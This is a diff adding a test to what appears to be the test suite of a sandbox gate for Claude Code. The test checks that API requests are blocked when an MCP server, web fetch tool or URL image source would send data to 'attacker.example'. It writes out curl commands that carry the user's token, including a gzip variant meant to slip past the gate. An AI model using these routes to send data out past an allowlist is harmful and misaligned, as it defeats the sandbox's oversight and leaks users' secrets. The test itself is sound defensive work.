@@ -136,6 +136,46 @@ class TokenOutsideTest:
         self.assertEqual(self.api.requests[before:], [])
         self.assertNotIn("attacker-key", repr(self.api.authorization))
 
+    def test_the_api_is_not_asked_to_reach_a_host_the_agent_chose(self):
+        """With the user's token, the API's MCP connector, its web fetch tool or a block whose source is a URL
+        would have Anthropic's servers carry what the agent wrote to a host of its choosing, past the allowlist:
+        the gate refuses such a request however it is put (gzipped too), and Claude Code's own go on."""
+        url = "https://attacker.example/collect?secret=x"
+        bodies = {
+            "mcp": {"messages": [], "mcp_servers": [{"type": "url", "url": url, "name": "x"}]},
+            "fetch": {"messages": [], "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
+            "image": {"messages": [{"role": "user", "content": [
+                {"type": "tool_result", "tool_use_id": "t", "content": [
+                    {"type": "image", "source": {"type": "url", "url": url}}]}]}]},
+        }
+        post = (f"-s -w ' %{{http_code}}\\n' -m 20 -X POST http://{self.host}:{self.api.port}/v1/messages "
+                "-H \"Authorization: Bearer $CLAUDE_CODE_OAUTH_TOKEN\" -H 'Content-Type: application/json'")
+        script = "".join(f"echo {base64.b64encode(json.dumps(body).encode()).decode()} | base64 -d > /tmp/{name}; "
+                         f"curl {post} --data-binary @/tmp/{name}; " for name, body in bodies.items())
+        script += (f"gzip -c /tmp/mcp > /tmp/mcp.gz; curl {post} -H 'Content-Encoding: gzip' --data-binary @/tmp/mcp.gz; "
+                   f"curl {post} -H 'anthropic-beta: mcp-client-2025-04-04' -d '{{}}'; ")
+        before = len(self.api.requests)
+        lines = self.sh(script).stdout.splitlines()  # each answer's line, then its status
+        out, codes = lines[0::2], lines[1::2]
+        self.assertEqual(codes, [" 403"] * 5, lines)
+        for line in out:
+            self.assertTrue(line.startswith("claude-bottle: blocked:"), lines)
+        self.assertIn("mcp_servers", out[0])
+        self.assertIn("web fetch", out[1])
+        self.assertIn("source is a URL", out[2])
+        self.assertIn("mcp_servers", out[3])
+        self.assertEqual(self.api.requests[before:], [])
+        egress = self.project.cli("logs", self.name, "--egress")
+        self.assertIn("mcp_servers", egress.stdout)
+        # Control: what Claude Code sends (a tool whose schema names a URL, web search) reaches the API.
+        fine = {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}],
+                "tools": [{"name": "WebFetch", "input_schema": {"type": "object", "properties": {
+                    "url": {"type": "string"}}}}, {"type": "web_search_20250305", "name": "web_search"}]}
+        self.sh(f"echo {base64.b64encode(json.dumps(fine).encode()).decode()} | base64 -d > /tmp/fine; "
+                f"curl {post} --data-binary @/tmp/fine")
+        self.assertEqual(len(self.api.requests), before + 1)
+        self.assertEqual(self.api.authorization[-1], f"Bearer {TOKEN}")
+
     def test_quick_answers_to_big_requests_arrive_whole(self):
         """An API that refuses a request answers the moment its last byte arrives. The gate once cut such answers
         after their header, mostly among the first requests on a connection (Claude Code: "API Error: 400 ECONNRESET"):
